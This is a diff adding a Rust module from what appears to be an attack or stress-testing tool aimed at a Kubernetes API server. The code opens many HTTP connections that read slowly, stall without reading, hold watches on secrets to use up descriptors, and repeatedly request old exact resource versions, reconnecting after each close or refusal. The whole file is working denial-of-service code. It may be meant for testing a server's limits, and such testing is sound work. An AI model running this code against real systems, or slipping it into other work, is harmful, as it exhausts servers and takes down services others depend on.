@@ -1,0 +1,182 @@
+//! Many HTTP/1.1 connections with one request at a time each, sent as bytes: a connection costs the attacker a task and a socket.
+
+use std::collections::VecDeque;
+use std::sync::atomic::Ordering;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::Duration;
+
+use anyhow::{Result, ensure};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+
+use super::{Scene, count, writes};
+use crate::cli::hostile::Attack;
+use crate::target::source_socket;
+use crate::wire::response::{Progress, Response};
+
+/// How old a version is that is read exactly, seconds.
+const AGE: usize = 5;
+/// Bytes a second of one who reads slowly.
+const SLOW_LEN: usize = 10_000;
+/// How often such a one reads.
+const SLOW_EVERY: Duration = Duration::from_millis(100);
+/// Receive buffer of those who read slowly or never, bytes.
+const SMALL_BUFFER: u32 = 4_096;
+/// A client that was closed or turned away comes back after this time.
+const BACK_AFTER: Duration = Duration::from_millis(500);
+/// Longest time without a byte of an answer.
+const ANSWER_WAIT: Duration = Duration::from_secs(30);
+
+/// The newest versions, one a second.
+#[derive(Debug, Default)]
+pub(super) struct Versions {
+    kept: Mutex<VecDeque<String>>,
+}
+
+impl Versions {
+    pub(super) fn push(&self, version: &str) {
+        let mut kept = self.kept.lock().unwrap_or_else(PoisonError::into_inner);
+        kept.push_back(version.to_owned());
+        if kept.len() > AGE {
+            kept.pop_front();
+        }
+    }
+
+    fn oldest(&self) -> Option<String> {
+        let kept = self.kept.lock().unwrap_or_else(PoisonError::into_inner);
+        kept.front().cloned()
+    }
+}
+
+/// Begins.
+pub(super) fn begin(scene: &Arc<Scene>, clients: &mut JoinSet<()>) {
+    let versions = Arc::new(Versions::default());
+    if scene.flags.attack == Attack::Exact {
+        clients.spawn(writes::follow_versions(scene.clone(), versions.clone()));
+    }
+    for _ in 0..scene.flags.clients {
+        let (scene, versions) = (scene.clone(), versions.clone());
+        clients.spawn(async move {
+            let mut is_first = true;
+            loop {
+                scene.pace.turn().await;
+                let outcome = client(&scene, &versions, &mut is_first).await;
+                if std::mem::take(&mut is_first) {
+                    count(&scene.counts.begun);
+                }
+                count(match outcome {
+                    Ok(()) => &scene.counts.closed,
+                    Err(_) => &scene.counts.refused,
+                });
+                tokio::time::sleep(BACK_AFTER).await;
+            }
+        });
+    }
+}
+
+/// One connection, until it ends; an error if it was turned away.
+async fn client(scene: &Scene, versions: &Versions, is_first: &mut bool) -> Result<()> {
+    let attack = scene.flags.attack;
+    let is_small = matches!(attack, Attack::SlowLists | Attack::Stalled);
+    let address = scene.target.address;
+    let buffer = is_small.then_some(SMALL_BUFFER);
+    let socket = source_socket(address, scene.flags.source, buffer)?;
+    let mut stream = socket.connect(address).await?;
+    let _open = Open::of(scene);
+    let path = match attack {
+        Attack::Exact => return repeat(scene, versions, stream, is_first).await,
+        Attack::SlowLists => "/api/v1/pods?resourceVersion=0",
+        Attack::Descriptors => "/api/v1/secrets?watch=1",
+        Attack::Stalled => "/api/v1/namespaces/default/configmaps?watch=1",
+        _ => "/api/v1/pods?watch=1&resourceVersion=0&timeoutSeconds=600",
+    };
+    stream
+        .write_all(&scene.target.fetch_text_as(path, "application/json"))
+        .await?;
+    let mut head = [0; 12];
+    tokio::time::timeout(ANSWER_WAIT, stream.read_exact(&mut head)).await??;
+    if std::mem::take(is_first) {
+        count(&scene.counts.begun);
+    }
+    ensure!(&head[9..] == b"200", "turned away");
+    count(&scene.counts.done);
+    match attack {
+        // Ends with the process, or with the attack's set.
+        Attack::Stalled => std::future::pending().await,
+        Attack::SlowLists => read(&mut stream, Some(SLOW_EVERY)).await,
+        _ => read(&mut stream, None).await,
+    }
+}
+
+/// Reads until the server closes: as fast as it comes, or a little now and then.
+async fn read(stream: &mut TcpStream, every: Option<Duration>) -> Result<()> {
+    let len = if every.is_some() {
+        SLOW_LEN / 10
+    } else {
+        16 << 10
+    };
+    let mut buffer = vec![0; len];
+    while stream.read(&mut buffer).await? > 0 {
+        if let Some(every) = every {
+            tokio::time::sleep(every).await;
+        }
+    }
+    Ok(())
+}
+
+/// Reads one pod as it was some time ago, again and again.
+async fn repeat(
+    scene: &Scene,
+    versions: &Versions,
+    mut stream: TcpStream,
+    is_first: &mut bool,
+) -> Result<()> {
+    let mut buffer = vec![0; 16 << 10];
+    loop {
+        scene.pace.turn().await;
+        let Some(version) = versions.oldest() else {
+            continue;
+        };
+        let path = format!(
+            "/api/v1/namespaces/default/pods?limit=1&resourceVersion={version}&resourceVersionMatch=Exact"
+        );
+        stream
+            .write_all(&scene.target.fetch_text_as(&path, "application/json"))
+            .await?;
+        let mut response = Response::default();
+        loop {
+            let reading = stream.read(&mut buffer);
+            let len = tokio::time::timeout(ANSWER_WAIT, reading).await??;
+            ensure!(len > 0, "closed within an answer");
+            if let Progress::Complete(_) = response.feed(&buffer[..len], |_, _| {})? {
+                break;
+            }
+        }
+        if std::mem::take(is_first) {
+            count(&scene.counts.begun);
+        }
+        let status = response.head().map_or(0, |head| head.status);
+        count(if status == 200 {
+            &scene.counts.done
+        } else {
+            &scene.counts.refused
+        });
+    }
+}
+
+/// A connection that is counted while it is open.
+struct Open<'a>(&'a Scene);
+
+impl<'a> Open<'a> {
+    fn of(scene: &'a Scene) -> Self {
+        count(&scene.counts.connections);
+        Self(scene)
+    }
+}
+
+impl Drop for Open<'_> {
+    fn drop(&mut self) {
+        self.0.counts.connections.fetch_sub(1, Ordering::Relaxed);
+    }
+}
